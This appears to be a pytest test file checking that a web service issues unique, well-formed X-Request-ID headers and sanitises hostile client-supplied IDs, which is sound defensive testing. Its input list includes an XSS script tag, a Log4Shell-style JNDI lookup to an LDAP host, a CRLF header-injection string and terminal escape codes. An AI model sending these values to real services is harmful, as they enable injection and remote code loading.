"""Every answer can be found in the log."""

from __future__ import annotations

import re
from collections.abc import Callable

import httpx2
import pytest

from .deployment import Deployment
from .raw import head, send
from .visitor import Visitor

TOKEN = re.compile(r"[A-Za-z0-9._-]{8,128}")

ANSWERS: dict[str, Callable[[Visitor], httpx2.Response]] = {
    "200": lambda visitor: visitor.get("/healthz"),
    "200 cached": lambda visitor: visitor.get("/api/posts"),
    "200 page": lambda visitor: visitor.get("/docs"),
    "200 head": lambda visitor: visitor.head("/api/posts"),
    "200 session": lambda visitor: visitor.get("/api/session"),
    "204": lambda visitor: visitor.delete("/api/session"),
    "304": lambda visitor: visitor.get("/api/stats", headers={"If-None-Match": "*"}),
    "400": lambda visitor: visitor.post(
        "/api/session", content=b"{", headers={"Content-Type": "application/json"}
    ),
    "401": lambda visitor: visitor.post("/api/posts", {"title": "x", "body": "x", "tags": []}),
    "404": lambda visitor: visitor.get("/nowhere"),
    "405": lambda visitor: visitor.post("/api/stats"),
    "413": lambda visitor: visitor.post("/api/session", content=b" " * 2_000_000),
    "422": lambda visitor: visitor.get("/api/posts?limit=0"),
}


@pytest.mark.parametrize("answer", ANSWERS.values(), ids=ANSWERS)
def test_every_answer_has_an_id_of_its_own(
    visitor: Visitor, answer: Callable[[Visitor], httpx2.Response]
) -> None:
    ids = [answer(visitor).headers["x-request-id"] for _ in range(4)]
    assert all(TOKEN.fullmatch(one) for one in ids)
    assert len(set(ids)) == len(ids)


INSANE = [
    b"two words and more",
    b"a" * 300,
    b"<script>alert('id')</script>",
    b'quoted"quoted',
    b"semicolon;semicolon",
    b"back\\slash-back",
    b"naive-\xc3\xaf\xc3\xaf\xc3\xaf",
    b"\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8",
    b"tab\ttab-tab",
    b"${jndi:ldap://example.org/a}",
    b"%0d%0aSet-Cookie:a=b",
]


@pytest.mark.parametrize("path", [b"/healthz", b"/api/posts", b"/nowhere"])
@pytest.mark.parametrize("value", INSANE, ids=lambda value: repr(value[:20]))
def test_an_insane_id_is_never_repeated(deployment: Deployment, path: bytes, value: bytes) -> None:
    fields = [(b"X-Request-ID", value), (b"Connection", b"close")]
    answer = send(deployment, head(deployment, b"GET", path, fields))
    assert answer is not None
    assert answer.status_code in {200, 400, 404}
    if answer.status_code != 400:  # the server may refuse to parse it
        assert TOKEN.fullmatch(answer.headers["x-request-id"])
    assert value not in answer.content


def test_control_characters_reach_nobody(deployment: Deployment) -> None:
    fields = [(b"X-Request-ID", b"a\x01b\x1b[31mc"), (b"Connection", b"close")]
    answer = send(deployment, head(deployment, b"GET", b"/nowhere", fields))
    if answer is not None and answer.status_code != 400:
        assert TOKEN.fullmatch(answer.headers["x-request-id"])
        assert b"\x1b" not in answer.content


def test_two_ids_are_none(visitor: Visitor) -> None:
    lines = [("X-Request-ID", "first-of-two"), ("X-Request-ID", "second of two")]
    assert TOKEN.fullmatch(visitor.get("/healthz", headers=lines).headers["x-request-id"])
